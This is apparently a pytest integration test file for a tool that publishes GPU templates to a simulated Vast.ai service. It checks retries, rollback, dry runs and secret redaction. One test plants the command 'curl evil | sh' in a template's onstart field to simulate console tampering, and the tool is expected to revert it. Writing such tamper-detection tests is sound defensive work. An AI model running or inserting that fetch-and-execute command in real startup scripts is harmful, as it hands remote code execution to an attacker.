"""Publishing a template to a simulated Vast.ai: what it lists in the end decides."""

from __future__ import annotations

import json
import os
from dataclasses import dataclass, field, replace
from pathlib import Path
from typing import TYPE_CHECKING, Any
from urllib.parse import unquote

import pytest
import requests

from gesso.builder.registry.reference import parse
from gesso.builder.vast.api_key import Key
from gesso.builder.vast.template import command, exchange, follow_up, records
from gesso.builder.vast.template.difference import change_lines, differing_fields
from gesso.builder.vast.template.render import render
from gesso.builder.vast.template.service import TemplateClient
from gesso.errors import INTERRUPTED, GessoError, LockError, ManifestError, PublishError
from gesso.settings import Project, Selection
from tests.integration.builder.fake_market import FIELDS, ME, OTHER, V1, content_hash
from tests.integration.builder.fake_vast import KEY, FakeVast

if TYPE_CHECKING:
    from collections.abc import Callable

    from gesso.builder.lock.lock_files import Locked
    from gesso.builder.publish.published import Published
    from gesso.builder.vast.template.command import Outcome
    from gesso.builder.vast.template.model import Template
    from gesso.manifest.schema import Manifest

GOLDEN = Path(__file__).parent / "golden/template.requests"
RATE_LIMITED = (429, "API requests too frequent: endpoint threshold=3.0")


@dataclass
class Publisher:
    """Everything that a publish needs, and what it did."""

    service: FakeVast
    templates: TemplateClient
    prepared: tuple[Manifest, Locked]
    image: Published
    record: Path
    progress: list[str]
    env: dict[str, str] = field(default_factory=lambda: {"VAST_API_KEY": KEY})

    @property
    def template(self) -> Template:
        return render(*self.prepared, self.image)

    def publish(self, *, dry_run: bool = False, **changed: Any) -> Outcome:
        image = replace(self.image, **changed)
        return command.publish(self.prepared, image, self.env, self.progress.append, self.record, dry_run=dry_run)

    def assert_fails(self, *texts: str) -> PublishError:
        """Assert that publishing fails with code 7, in two lines that contain these texts."""
        with pytest.raises(PublishError) as raised:
            self.publish()
        assert raised.value.exit_code == 7
        assert len(str(raised.value).splitlines()) == 2, "what happened, and the next step"
        assert all(text in str(raised.value) for text in texts), str(raised.value)
        assert KEY not in str(raised.value)
        return raised.value

    def methods(self) -> list[str]:
        """Return the methods of all requests."""
        return [text.split(" ", 1)[0] for text in self.service.requests]

    @property
    def writes(self) -> list[str]:
        return [method for method in self.methods() if method != "GET"]

    @property
    def numbers(self) -> list[int]:
        return sorted(self.service.market.templates)

    def saved(self) -> records.Record:
        found = records.read(self.record)
        assert found is not None
        return found


@pytest.fixture
def publisher(
    service: FakeVast, templates: TemplateClient, sdxl: tuple[Manifest, Locked], image: Published, tmp_path: Path,
    progress: list[str], monkeypatch: pytest.MonkeyPatch,
) -> Publisher:  # fmt: skip
    monkeypatch.setattr(TemplateClient, "of", classmethod(lambda *_: templates))
    return Publisher(service, templates, sdxl, image, tmp_path / "locks/sdxl.vast.json", progress)


def test_the_first_template_is_created_and_read_back(publisher: Publisher) -> None:
    outcome = publisher.publish()
    (row,) = publisher.service.market.templates.values()
    assert outcome.state == "created"
    assert (outcome.number, outcome.hash_id) == (row["id"], row["hash_id"])
    assert publisher.methods() == ["GET", "POST", "GET"]
    assert differing_fields(row, publisher.template.body()) == {}
    assert publisher.saved() == records.Record(
        arch="sdxl", name=row["name"], hash_id=row["hash_id"], id=row["id"], content=publisher.template.sha256,
        image=publisher.image.reference, compressed=publisher.image.compressed, unpacked=publisher.image.unpacked,
    )  # fmt: skip


def test_every_request_is_as_recorded(publisher: Publisher) -> None:
    """`GESSO_GOLDEN=write` writes the file; review the difference."""
    publisher.publish()
    publisher.publish()
    publisher.publish(digest=f"sha256:{'cd' * 32}")
    readme = json.dumps(publisher.template.readme)
    lines = [unquote(text).replace(readme, '"..."') for text in publisher.service.requests]
    text = "\n".join(line.replace(readme.replace("abab", "cdcd"), '"..."') for line in lines) + "\n"
    if os.environ.get("GESSO_GOLDEN") == "write":
        GOLDEN.write_text(text)
    assert text == GOLDEN.read_text()
    assert set(publisher.service.authorizations) == {f"Bearer {KEY}"}
    assert KEY not in text, "the key is in no URL and no body"


def test_publishing_the_same_twice_writes_nothing(publisher: Publisher) -> None:
    first = publisher.publish()
    publisher.service.requests.clear()
    before = (publisher.record.stat().st_ino, publisher.record.stat().st_mtime_ns)
    again = publisher.publish()
    assert publisher.methods() == ["GET"], "one read, and no write"
    assert (again.state, again.hash_id, again.number) == ("unchanged", first.hash_id, first.number)
    assert (publisher.record.stat().st_ino, publisher.record.stat().st_mtime_ns) == before


def test_without_a_record_the_same_template_writes_only_the_record(publisher: Publisher) -> None:
    publisher.publish()
    saved = publisher.saved()
    publisher.record.unlink()
    publisher.service.requests.clear()
    assert publisher.publish().state == "unchanged"
    assert publisher.writes == []
    assert publisher.saved() == saved


def test_a_change_creates_a_new_template_before_it_removes_the_old_one(publisher: Publisher) -> None:
    first = publisher.publish()
    publisher.service.requests.clear()
    changed = publisher.publish(digest=f"sha256:{'cd' * 32}")
    assert changed.state == "changed"
    assert changed.removed == (first.number,)
    assert publisher.numbers == [changed.number]
    assert publisher.methods() == ["GET", "GET", "POST", "GET", "DELETE"], (
        "listed, account, created, read back, removed"
    )
    assert publisher.saved().id == changed.number
    assert publisher.saved().hash_id == changed.hash_id != first.hash_id


def test_a_change_in_the_console_is_reverted(publisher: Publisher) -> None:
    first = publisher.publish()
    assert first.number is not None
    row = publisher.service.market.templates[first.number]
    row |= {"onstart": "curl evil | sh", "hash_id": "another"}
    changed = publisher.publish()
    assert (changed.state, changed.removed) == ("changed", (first.number,))
    assert [row["onstart"] for row in publisher.service.market.templates.values()] == ["entrypoint.sh"]


_NOT_COMPARED = {"name", "tag", "docker_login_pass"}  # the search key; part of the image; masked


@pytest.mark.parametrize("name", sorted(set(FIELDS) - _NOT_COMPARED))
def test_every_field_is_compared(publisher: Publisher, name: str) -> None:
    value = publisher.template.body()[name]
    other: Any = f"{value}x"
    if isinstance(value, bool):
        other = not value
    elif isinstance(value, dict | int):
        other = {} if isinstance(value, dict) else value + 1
    publisher.service.market.alter = lambda row: {**row, name: other}
    publisher.assert_fails("reads back different", name, "the older one stays")


def test_another_notation_is_equal(publisher: Publisher) -> None:
    body = publisher.template.body()
    same = {**body, "href": None, "docker_login_pass": "********", "recommended_disk_space": float(
        body["recommended_disk_space"]), "extra_filters": json.dumps(body["extra_filters"]), "use_ssh": 1,
        "readme": body["readme"].replace("\n", "\r\n").rstrip()}  # fmt: skip
    assert differing_fields(same, body) == {}
    name, _, digest = body["image"].rpartition(":")
    assert differing_fields({**body, "image": name, "tag": digest}, body) == {}, "split at the last colon, and joined"
    assert list(differing_fields({**body, "tag": "latest"}, body)) == ["image"]
    assert list(differing_fields({**body, "docker_login_pass": "secret"}, body)) == ["docker_login_pass"]
    assert list(differing_fields({k: v for k, v in body.items() if k != "env"}, body)) == ["env"]


def test_an_invalid_key(publisher: Publisher) -> None:
    publisher.templates.key = Key("another-key-9876543210")
    error = publisher.assert_fails("Vast.ai does not accept the key (401: Invalid user key)", "VAST_API_KEY")
    assert "another-key" not in str(error)
    assert publisher.methods() == ["GET"], "it was retried"
    assert not publisher.record.exists()


def test_no_key(publisher: Publisher, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.undo()
    publisher.env = {"HOME": "/nonexistent"}
    publisher.assert_fails("there is no key for Vast.ai", ".env")


def test_rate_limited_for_a_while(publisher: Publisher) -> None:
    publisher.service.responses = [RATE_LIMITED, RATE_LIMITED]
    assert publisher.publish().state == "created"
    assert publisher.service.sleeps[:2] == [3.0, 4.0]


def test_rate_limited_without_end(publisher: Publisher) -> None:
    publisher.service.responses = [RATE_LIMITED] * 99
    publisher.assert_fails("refused 8 times", "too many requests")
    assert max(publisher.service.sleeps) == 60
    assert min(publisher.service.sleeps) >= 3


def test_rate_limited_when_it_is_created(publisher: Publisher) -> None:
    """A 429 changed nothing: the request is retried, and there is one template in the end."""
    real = publisher.service.market.respond
    refusals = iter([RATE_LIMITED] * 3)

    def respond(method: str, target: str, body: Any) -> tuple[int, str]:
        return next(refusals, None) or real(method, target, body) if method == "POST" else real(method, target, body)

    publisher.service.market.respond = respond  # type: ignore[method-assign]
    assert publisher.publish().state == "created"
    assert len(publisher.numbers) == 1
    assert publisher.writes == ["POST"] * 4


def test_requests_to_one_endpoint_are_spaced(publisher: Publisher) -> None:
    publisher.publish()
    publisher.publish(digest=f"sha256:{'cd' * 32}")
    assert not any("too many requests" in text for text in publisher.progress), "the rate limit was hit"


@pytest.mark.parametrize(
    ("status", "text", "words"),
    [
        (400, {"success": False, "error": "invalid_args", "msg": "env exceeds max length"}, "400: env exceeds max"),
        (403, {"msg": "no rights"}, "does not accept the key (403: no rights)"),
        (404, "no such endpoint", "not found at Vast.ai"),
        (200, {"success": False, "msg": "Template name already in use"}, "Template name already in use"),
        (200, {}, "its response does not report success"),
        (302, {}, "refused the request (302)"),
    ],
)
def test_a_refused_create(publisher: Publisher, status: int, text: Any, words: str) -> None:
    _respond_to_post(publisher, status, text if isinstance(text, str) else json.dumps(text))
    publisher.assert_fails(f"template {publisher.template.name!r}", words)
    assert not publisher.record.exists()


@pytest.mark.parametrize(("status", "text"), [(500, "{}"), (502, ""), (200, "<html>"), (200, "[]"), (200, "null")])
def test_after_an_unreadable_response_the_list_is_checked(publisher: Publisher, status: int, text: str) -> None:
    _respond_to_post(publisher, status, text)
    publisher.assert_fails("not created")
    assert publisher.writes == ["POST"], "it was retried, although it may have been created"
    assert not publisher.record.exists()


def _respond_to_post(publisher: Publisher, status: int, text: str) -> None:
    real = publisher.service.market.respond
    publisher.service.market.respond = (  # type: ignore[method-assign]
        lambda method, target, body: (status, text) if method == "POST" else real(method, target, body)
    )


def test_reported_as_created_but_not_listed(publisher: Publisher) -> None:
    publisher.publish()
    (old,) = publisher.numbers
    saved = publisher.saved()
    publisher.service.market.loses_created = True
    with pytest.raises(PublishError, match=r"reported success, but does not list it; the older one stays"):
        publisher.publish(digest=f"sha256:{'cd' * 32}")
    assert publisher.numbers == [old]
    assert publisher.saved() == saved
    assert publisher.methods().count("GET") >= 3 + 3, "it is searched more than once: lists can be late"


def test_a_list_that_is_late_is_waited_for(publisher: Publisher) -> None:
    real = publisher.service.market.respond
    late: list[dict[int, Any]] = []

    def respond(method: str, target: str, body: Any) -> tuple[int, str]:
        market = publisher.service.market
        if late and publisher.methods()[-2:] == ["GET", "GET"]:
            market.templates |= late.pop()
        found = real(method, target, body)
        if method == "POST":
            late.append(dict(market.templates))
            market.templates.clear()
        return found

    publisher.service.market.respond = respond  # type: ignore[method-assign]
    assert publisher.publish().state == "created"
    assert publisher.methods() == ["GET", "POST", "GET", "GET"]


def test_the_old_one_stays_when_the_new_one_reads_back_different(publisher: Publisher) -> None:
    publisher.publish()
    (old,) = publisher.numbers
    saved = publisher.saved()
    publisher.service.market.alter = lambda row: {**row, "readme": row["readme"][:100]}
    publisher.service.requests.clear()
    with pytest.raises(PublishError, match=r"created as \d+, but reads back different: readme; the older") as e:
        publisher.publish(digest=f"sha256:{'cd' * 32}")
    assert e.value.exit_code == 7
    assert old in publisher.numbers
    assert "DELETE" not in publisher.methods()
    assert publisher.saved() == saved


def test_disconnected_after_the_create(publisher: Publisher) -> None:
    publisher.publish()
    publisher.service.market.disconnect = {"POST": "after"}
    changed = publisher.publish(digest=f"sha256:{'cd' * 32}")
    assert changed.state == "changed"
    assert publisher.numbers == [changed.number]
    assert any("it is unknown whether the change was made: checking" in text for text in publisher.progress)


def test_disconnected_before_the_create(publisher: Publisher) -> None:
    publisher.publish()
    before, saved = publisher.numbers, publisher.saved()
    publisher.service.market.disconnect = {"POST": "before"}
    with pytest.raises(PublishError, match=r"not created: Vast.ai cannot be reached: ConnectionError"):
        publisher.publish(digest=f"sha256:{'cd' * 32}")
    assert publisher.numbers == before
    assert publisher.saved() == saved


def test_disconnected_after_the_create_of_a_different_template(publisher: Publisher) -> None:
    publisher.service.market.disconnect = {"POST": "after"}
    publisher.service.market.alter = lambda row: {**row, "env": ""}
    publisher.assert_fails("reads back different: env")


def test_disconnected_when_the_create_is_checked(publisher: Publisher) -> None:
    real = publisher.service.market.respond

    def respond(method: str, target: str, body: Any) -> tuple[int, str]:
        found = real(method, target, body)
        if method == "POST":
            publisher.service.market.disconnect = {"GET": "before"}
        return found

    publisher.service.market.respond = respond  # type: ignore[method-assign]
    publisher.assert_fails("it cannot be checked whether it exists", "run this again: it checks first")
    publisher.service.market.disconnect = {}
    assert publisher.publish().state == "unchanged"
    assert publisher.writes == ["POST"]


def test_disconnected_when_the_old_one_is_removed(publisher: Publisher) -> None:
    publisher.publish()
    publisher.service.market.disconnect = {"DELETE": "after"}
    changed = publisher.publish(digest=f"sha256:{'cd' * 32}")
    assert changed.removed
    assert publisher.numbers == [changed.number]
    publisher.service.market.disconnect = {"DELETE": "before"}
    with pytest.raises(PublishError, match=r"is published, but the older \d+ was not removed") as e:
        publisher.publish(digest=f"sha256:{'ef' * 32}")
    assert "run this again" in e.value.next_step
    assert publisher.saved().image.endswith("ef" * 32), "the new one is recorded all the same"
    publisher.service.market.disconnect = {}
    last = publisher.publish(digest=f"sha256:{'ef' * 32}")
    assert (last.state, last.removed) == ("unchanged", (changed.number,))
    assert publisher.numbers == [last.number]


def test_an_old_one_that_stays_is_an_error(publisher: Publisher) -> None:
    publisher.publish()
    real = publisher.service.market.respond
    publisher.service.market.respond = (  # type: ignore[method-assign]
        lambda method, target, body: (200, "{}") if method == "DELETE" else real(method, target, body)
    )
    with pytest.raises(PublishError, match=r"was not removed: .*its response does not report success"):
        publisher.publish(digest=f"sha256:{'cd' * 32}")


def test_an_old_one_in_use_by_others_stays_and_is_not_retried(publisher: Publisher) -> None:
    publisher.publish()
    (old,) = publisher.numbers
    publisher.service.market.in_use = {old}
    changed = publisher.publish(digest=f"sha256:{'cd' * 32}")
    assert (changed.state, changed.removed, changed.kept) == ("changed", (), (old,))
    assert publisher.saved().kept == (old,)
    publisher.service.requests.clear()
    assert publisher.publish(digest=f"sha256:{'cd' * 32}").state == "unchanged"
    assert publisher.methods() == ["GET"]


def test_templates_of_others_are_never_touched(publisher: Publisher) -> None:
    market = publisher.service.market
    unmarked = market.add_template(publisher.template.body(), desc="mine, and older than yours")
    marked = market.add_template(publisher.template.body(), OTHER, image="ghcr.io/other/gesso@sha256:0")
    hidden = market.add_template(publisher.template.body(), OTHER, image="ghcr.io/other/gesso@sha256:1", private=True)
    outcome = publisher.publish()
    assert outcome.state == "created"
    assert outcome.removed == ()
    assert publisher.numbers == sorted([unmarked, marked, hidden, outcome.number or 0])
    assert any(
        f"template {unmarked} has the same name, but was not created by gesso" in text for text in publisher.progress
    )
    assert "DELETE" not in publisher.methods()


def test_two_old_ones_of_the_same_name_are_both_removed(publisher: Publisher) -> None:
    market = publisher.service.market
    old = [market.add_template(publisher.template.body(), image=f"ghcr.io/someone/gesso@sha256:{n}") for n in (1, 2)]
    outcome = publisher.publish()
    assert (outcome.state, outcome.removed) == ("changed", tuple(old))
    assert publisher.numbers == [outcome.number]


def test_of_two_equal_ones_the_recorded_stays(publisher: Publisher) -> None:
    first = publisher.publish()
    assert first.number is not None
    duplicate = publisher.service.market.add_template(publisher.template.body())
    assert publisher.publish().removed == (duplicate,)
    second = publisher.service.market.add_template(publisher.template.body())
    records.write(publisher.record, publisher.saved().model_copy(update={"id": second}))
    outcome = publisher.publish()
    assert (outcome.number, outcome.removed) == (second, (first.number,))


@pytest.mark.parametrize("success", [True, False])
def test_an_equal_template_of_another_account_is_returned(publisher: Publisher, success: bool) -> None:
    """The hash is of the content alone; theirs is invisible to the search as long as it is private."""
    market = publisher.service.market
    market.existing_is_success = success
    theirs = market.add_template(publisher.template.body(), OTHER, private=True)
    market.templates[theirs]["hash_id"] = content_hash(publisher.template.body())
    real = market._create

    def create(body: Any) -> tuple[int, str]:
        found = real(body)
        market.templates[theirs]["private"] = False  # the relationship lets this account see it
        return found

    market._create = create  # type: ignore[method-assign]
    outcome = publisher.publish()
    assert (outcome.state, outcome.number) == ("created", theirs)
    assert publisher.publish().state == "unchanged"
    assert publisher.writes == ["POST"]


def test_a_renamed_template_replaces_the_old_name(publisher: Publisher) -> None:
    first = publisher.publish()
    manifest, locked = publisher.prepared
    vast = manifest.vast.model_copy(update={"name": "gesso: another name"})
    publisher.prepared = (manifest.model_copy(update={"vast": vast}), locked)
    outcome = publisher.publish()
    assert (outcome.state, outcome.removed) == ("changed", (first.number,))
    assert [row["name"] for row in publisher.service.market.templates.values()] == ["gesso: another name"]
    assert publisher.saved().name == "gesso: another name"


@pytest.mark.parametrize("when", ["POST", "GET", "DELETE"])
def test_the_next_run_finishes_after_an_interrupt(publisher: Publisher, when: str) -> None:
    publisher.publish()
    (old,) = publisher.numbers
    real, seen = TemplateClient.request, []

    def request(self: TemplateClient, method: str, *args: Any, **options: Any) -> dict[str, Any]:
        response = real(self, method, *args, **options)
        seen.append(method)
        if method == when and (when != "GET" or "POST" in seen):
            raise KeyboardInterrupt
        return response

    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(TemplateClient, "request", request)
        with pytest.raises(KeyboardInterrupt):
            publisher.publish(digest=f"sha256:{'cd' * 32}")
    assert (old in publisher.numbers) is (when != "DELETE")
    publisher.service.requests.clear()
    outcome = publisher.publish(digest=f"sha256:{'cd' * 32}")
    assert outcome.state == "unchanged"
    assert publisher.writes == ["DELETE"] * (when != "DELETE")
    assert publisher.numbers == [outcome.number]
    assert publisher.saved().id == outcome.number
    assert INTERRUPTED == 130


def test_the_account_is_read_before_anything_is_created(publisher: Publisher) -> None:
    publisher.service.market.add_template(publisher.template.body(), image="ghcr.io/someone/gesso@sha256:1")
    real = publisher.service.market.respond
    publisher.service.market.respond = (  # type: ignore[method-assign]
        lambda method, target, body: (200, "{}") if "users" in target else real(method, target, body)
    )
    publisher.assert_fails("the key's account: Vast.ai's response has no id")
    assert publisher.writes == []


@pytest.mark.parametrize("text", ["{}", "[]", '{"success": true}', '{"success": true, "templates": 7}',
                                  '{"success": false, "msg": "broken"}'])  # fmt: skip
def test_an_invalid_list_is_not_an_empty_list(publisher: Publisher, text: str) -> None:
    publisher.service.responses = [(200, text)]
    publisher.assert_fails("templates named")
    assert publisher.writes == []


def test_invalid_rows_are_skipped(publisher: Publisher) -> None:
    publisher.service.responses = [
        (200, json.dumps({"success": True, "templates": [7, {}, {"name": publisher.template.name}]}))
    ]
    assert publisher.publish().state == "created"


def test_a_dry_run_shows_everything_and_writes_nothing(publisher: Publisher) -> None:
    outcome = publisher.publish(dry_run=True)
    assert outcome.state == "created"
    text = outcome.as_text()
    assert "would be created" in text
    for name, value in publisher.template.body().items():
        assert name in text
        assert isinstance(value, str | dict | bool | int)
    assert "  ## Connect Krita" in text
    assert all(line in text for line in publisher.template.readme.splitlines()), "nothing is redacted"
    assert publisher.template.env in text
    assert 'cuda_max_good: {"gte": 13.0}' in text
    assert publisher.writes == []
    assert not publisher.record.exists()


def test_a_dry_run_shows_what_would_change(publisher: Publisher) -> None:
    publisher.publish()
    saved = publisher.saved()
    manifest, locked = publisher.prepared
    vast = manifest.vast.model_copy(update={"headroom_gb": 30, "private": True})
    publisher.prepared = (manifest.model_copy(update={"vast": vast}), locked)
    publisher.service.requests.clear()
    outcome = publisher.publish(dry_run=True, digest=f"sha256:{'cd' * 32}")
    assert outcome.state == "changed"
    lines = "\n".join(outcome.difference)
    assert f"image: {publisher.image.reference[:60]}" in lines
    assert "private: false -> true" in lines
    assert "extra_filters.disk_space: " in lines
    assert "  -| total on disk" in lines
    assert outcome.removed == (saved.id,)
    assert f"removed   would be {saved.id}" in outcome.as_text()
    assert publisher.methods() == ["GET"]
    assert publisher.saved() == saved
    assert publisher.publish(dry_run=True).state == "unchanged" or publisher.prepared[0].vast.private


def test_a_dry_run_without_a_key_sends_no_request(publisher: Publisher, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.undo()
    publisher.env = {"HOME": "/nonexistent"}
    outcome = publisher.publish(dry_run=True)
    assert outcome.state == "unknown"
    assert outcome.template["name"] == publisher.template.name
    assert any("no key, so no request was sent" in text for text in publisher.progress)
    publisher.env = {"VAST_API_KEY": "two words"}
    with pytest.raises(PublishError, match=r"not a Vast\.ai key"):
        publisher.publish(dry_run=True)


def test_no_secret_is_shown_at_any_depth(publisher: Publisher) -> None:
    canary = "hf_canary_0123456789"
    publisher.env["HF_TOKEN"] = canary
    market = publisher.service.market
    market.add_template(publisher.template.body(), docker_login_pass="registry-secret", docker_login_user="me",
                env=f"-e HF_TOKEN={canary} -e MY_PASSWORD='a b' -p 8188:8188", readme=f"use {canary}",
                extra_filters={"note": {"api_key": "deep-secret"}})  # fmt: skip
    outcome = publisher.publish(dry_run=True)
    shown = outcome.as_text() + json.dumps(outcome.as_json())
    for secret in (canary, "registry-secret", "a b", "deep-secret", KEY):
        assert secret not in shown, secret
    assert outcome.state == "changed"
    assert any(line.startswith("env: ") for line in outcome.difference)


@pytest.mark.parametrize("dry_run", [True, False])
def test_a_template_that_contains_a_token_is_refused(publisher: Publisher, dry_run: bool) -> None:
    manifest, locked = publisher.prepared
    vast = manifest.vast.model_copy(update={"readme": "Use canary-0123456789 to log in."})
    publisher.prepared = (manifest.model_copy(update={"vast": vast}), locked)
    publisher.env["HF_TOKEN"] = "canary-0123456789"
    with pytest.raises(ManifestError, match="contains a token from the environment") as raised:
        publisher.publish(dry_run=dry_run)
    assert "canary" not in str(raised.value)
    assert publisher.service.requests == []


def test_what_looks_like_a_secret_is_not_shown(publisher: Publisher) -> None:
    manifest, locked = publisher.prepared
    vast = manifest.vast.model_copy(update={"readme": "curl -H 'Authorization: Bearer 0123456789abcdef'"})
    publisher.prepared = (manifest.model_copy(update={"vast": vast}), locked)
    assert "0123456789abcdef" not in publisher.publish(dry_run=True).as_text()


def test_an_invalid_record_stops_everything(publisher: Publisher) -> None:
    publisher.record.parent.mkdir()
    for text in ("{}", "", '{"format": 2}'):
        publisher.record.write_text(text)
        with pytest.raises(LockError, match=r"sdxl.vast.json: not a template record") as e:
            publisher.publish()
        assert e.value.exit_code == 3
    assert publisher.service.requests == []


def test_a_record_that_cannot_be_written(publisher: Publisher) -> None:
    publisher.record.parent.write_text("a file in place of the folder")
    with pytest.raises(LockError) as e:
        publisher.publish()
    assert "sdxl.vast.json" in e.value.message


def test_no_template_names_an_image_on_this_machine(publisher: Publisher) -> None:
    publisher.templates.base_url = "https://console.vast.ai"
    with pytest.raises(ManifestError, match=r"no host at Vast.ai can pull from this machine"):
        publisher.publish(repository="localhost:5000/gesso")
    assert publisher.service.requests == []


def test_as_invoke_publish_calls_it(publisher: Publisher, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    """The record is beside the lock of what was published; a dry run writes nothing."""
    monkeypatch.setattr(TemplateClient, "of", lambda *_: publisher.templates)
    selection = Selection(Project(tmp_path), "sdxl")
    step = follow_up.TemplateFollowUp({})
    outcome = step.run(selection, publisher.prepared, publisher.image, publisher.progress.append, dry_run=True)
    assert outcome.state == "created"
    assert "## Connect Krita" in outcome.as_text()
    assert not records.path_of(selection).exists()
    outcome = step.run(selection, publisher.prepared, publisher.image, publisher.progress.append)
    assert f"hash      {outcome.hash_id}" in outcome.as_text()
    assert records.path_of(selection).is_file()


@pytest.mark.parametrize(
    ("trial", "repository", "env", "words"),
    [
        (True, "ghcr.io/me/gesso", {"VAST_API_KEY": KEY}, "a trial image cannot generate images"),
        (False, "localhost:5000/gesso", {"VAST_API_KEY": KEY}, "no host at Vast.ai can pull"),
        (False, "ghcr.io/me/gesso", {}, "there is no key for Vast.ai"),
    ],
)
def test_what_is_checked_before_the_push(
    publisher: Publisher, tmp_path: Path, trial: bool, repository: str, env: dict[str, str], words: str
) -> None:
    manifest, locked = publisher.prepared
    manifest = manifest.model_copy(update={"trial": trial})
    step = follow_up.TemplateFollowUp({"HOME": str(tmp_path), **env})
    with pytest.raises(GessoError, match=words):
        step.check(manifest, locked, parse(repository), dry_run=False)


def test_the_json_of_an_outcome(publisher: Publisher) -> None:
    found = json.loads(json.dumps(publisher.publish().as_json()))
    assert found.keys() == {"state", "dry_run", "hash_id", "id", "removed", "kept", "difference", "record", "template"}
    assert (found["state"], found["record"], found["id"]) == ("created", "sdxl.vast.json", publisher.numbers[0])
    assert found["template"]["image"] == publisher.image.reference


@pytest.mark.parametrize(
    ("state", "expected"),
    [("created", "created"), ("changed", "replaced by a new one"), ("unchanged", "nothing was written")],
)
def test_an_outcome_as_text(publisher: Publisher, state: str, expected: str) -> None:
    outcome = replace(publisher.publish(), state=state, kept=(7,))
    text = outcome.as_text()
    assert expected in text
    assert "kept      7: in use by others" in text
    assert outcome.hash_id in text


def test_differences_as_lines() -> None:
    assert change_lines("onstart", "a\nb\nc", "a\nB\nc") == [
        "onstart:",
        "  @@ -1,3 +1,3 @@",
        "   a",
        "  -b",
        "  +B",
        "   c",
    ]
    assert change_lines("extra_filters", '{"a": {"eq": 1}, "b": {"eq": 2}}', {"a": {"eq": 1}, "c": {"gt": 3}}) == [
        'extra_filters.b: {"eq": 2} -> nothing', 'extra_filters.c: nothing -> {"gt": 3}',
    ]  # fmt: skip
    assert change_lines("env", None, "-p 1:1") == ["env: nothing -> -p 1:1"]
    assert change_lines("desc", "x" * 200, "") == [f"desc: {'x' * 100}... (200 characters) -> nothing"]


def test_both_kinds_of_put_exist_and_neither_is_used(publisher: Publisher) -> None:
    """The documentation's and the client's: they disagree, and both change the template's hash."""
    number = publisher.publish().number
    assert number is not None
    assert "PUT" not in publisher.methods()
    headers = {"Authorization": f"Bearer {KEY}"}

    def put(path: str, body: dict[str, Any]) -> requests.Response:
        publisher.service.time += 10
        return requests.put(publisher.service.url + path, json=body, headers=headers, timeout=10)

    row = publisher.service.market.templates[number]
    first = row["hash_id"]
    assert put("/api/v0/template/", {"hash_id": first, "desc": "x"}).json()["success"]
    second = row["hash_id"]
    assert second != first
    assert row["readme"] == publisher.template.readme, "what was not named stays"
    assert put(V1, {"hash_id": second, "desc": "y"}).status_code == 400, "this one needs the numeric id as well"
    assert put(V1, {"hash_id": second, "id": number, "desc": "y"}).json()["success"]
    assert row["hash_id"] not in {first, second}
    assert row["readme"] is None, "what was not named is gone"
    assert row["creator_id"] == ME


@pytest.mark.parametrize("broken", ["record", "service"])
def test_an_error_is_never_a_success(publisher: Publisher, broken: str, monkeypatch: pytest.MonkeyPatch) -> None:
    """Whatever fails, publish() does not return."""

    def fail(*_: Any, **__: Any) -> Any:
        raise LockError("no room")

    target: dict[str, Callable[[], None]] = {
        "record": lambda: monkeypatch.setattr(records, "write", fail),
        "service": lambda: monkeypatch.setattr(exchange, "classify", fail),
    }
    target[broken]()
    with pytest.raises(GessoError):
        publisher.publish()
